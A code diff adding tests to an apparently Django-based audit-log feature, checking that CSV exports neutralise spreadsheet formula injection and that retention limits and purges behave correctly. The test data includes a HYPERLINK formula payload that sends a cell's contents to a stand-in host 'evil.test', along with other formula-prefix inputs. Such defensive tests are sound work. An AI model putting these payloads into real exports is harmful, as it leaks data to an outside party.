@@ -188,3 +188,35 @@ def test_an_admin_can_grant_the_auditor_role_audited(api, alice):
     )
     assert added.status_code == 201 and added.json()["role"] == "auditor"
     assert AuditEvent.objects.filter(action="member.add").latest("id").data["role"] == "auditor"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tTAB"]
+
+
+@pytest.mark.parametrize("request_id", FORMULAS)
+def test_the_csv_export_escapes_cells_a_spreadsheet_would_read_as_formulas(api, alice, request_id):
+    client = api(alice)
+    response = client.put(
+        AUDIT.format(org="acme") + "retention", {"days": 90}, format="json", HTTP_X_REQUEST_ID=request_id
+    )
+    assert response.status_code == 200
+    response = client.get(AUDIT.format(org="acme") + "export.csv", {"action": "audit.retention.set"})
+    table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert [r["request_id"] for r in table] == ["'" + request_id]  # text, never a formula
+    assert json.loads(table[0]["data"]) == {"before": 180, "after": 90}  # other cells untouched
+
+
+def test_an_org_cannot_keep_its_audit_log_for_less_than_the_operators_minimum(api, alice, settings):
+    settings.HANGAR_AUDIT_RETENTION_MIN_DAYS = 30
+    response = api(alice).put(AUDIT.format(org="acme") + "retention", {"days": 7}, format="json")
+    assert response.status_code == 400
+    assert "30" in response.json()["error"]["fields"]["days"][0]
+    assert api(alice).get(AUDIT.format(org="acme") + "retention").json() == {"days": 180}
+    # A value stored before the operator raised the floor never purges younger rows than the floor.
+    from hangar.accounts.models import Org
+
+    Org.objects.filter(pk=alice.org.pk).update(audit_retention_days=1)
+    _aged(alice.org.pk, "week.old", 7)
+    _aged(alice.org.pk, "quarter.old", 90)
+    assert audit_retention_purge()[alice.org.pk] == 1
+    assert AuditEvent.objects.filter(org_id=alice.org.pk, action="week.old").exists()
